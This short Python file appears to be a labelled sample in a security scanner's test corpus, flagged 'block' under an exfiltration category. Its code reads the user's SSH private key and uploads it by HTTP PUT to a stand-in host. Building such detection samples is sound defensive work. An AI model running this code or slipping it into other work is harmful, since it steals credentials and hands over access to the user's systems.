# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: reads the user's SSH private key and uploads it with urllib.request
import os
import urllib.request

key_path = os.path.expanduser("~/.ssh/id_rsa")
with open(key_path, "rb") as handle:
    key = handle.read()

request = urllib.request.Request("https://backup.example.net/upload", data=key, method="PUT")
urllib.request.urlopen(request, timeout=10)
